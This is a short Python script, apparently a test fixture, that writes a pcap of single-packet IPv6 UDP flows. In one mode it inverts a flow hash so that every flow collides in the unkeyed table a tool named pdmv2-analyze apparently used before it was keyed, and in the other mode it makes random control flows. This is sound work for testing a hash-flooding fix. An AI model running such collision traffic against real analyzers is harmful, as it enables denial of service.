# Writes N one-packet UDP flows (raw IPv6, one PDM option) to a pcap:
# "crafted" 5-tuples collide under the unkeyed flow hash pdmv2-analyze
# had before it took a secret, "random" ones do not.
# usage: flood_pcap.py N crafted|random OUT.pcap
import struct, random, sys
K = 0x9E3779B97F4A7C15; M = (1 << 64) - 1
inv = K
for _ in range(6): inv = (inv * (2 - K * inv)) & M
def rounds(h, xs):
    for x in xs:
        h = ((h ^ x) * K) & M; h ^= h >> 29
    return h
def pkt(src, dst, sp, dp):
    body = bytes([0x0F, 10]) + bytes(10)
    d = bytes([17, 1]) + body + bytes([1, 0])
    udp = struct.pack(">HHHH", sp, dp, 8, 0)
    pl = d + udp
    return struct.pack(">IHBB", 0x60000000, len(pl), 60, 64) + src + dst + pl
n = int(sys.argv[1]); crafted = sys.argv[2] == "crafted"
out = open(sys.argv[3], "wb")
out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 101))
rnd = random.Random(1)
for i in range(n):
    x0, x1 = 0, 1
    x2 = 0xfe80000000000000 + i
    if crafted:
        h = rounds(2000 << 24 ^ 3000 << 8 ^ 17, [x0, x1, x2])
        t = 0x0123456789abcdef
        y = t ^ (t >> 29) ^ (t >> 58)
        x3 = ((y * inv) & M) ^ h
    else:
        x3 = rnd.getrandbits(64)
    src = struct.pack("<QQ", x0, x1); dst = struct.pack("<QQ", x2, x3)
    p = pkt(src, dst, 2000, 3000)
    out.write(struct.pack("<IIII", 1700000000 + i // 1000, i % 1000, len(p), len(p)) + p)
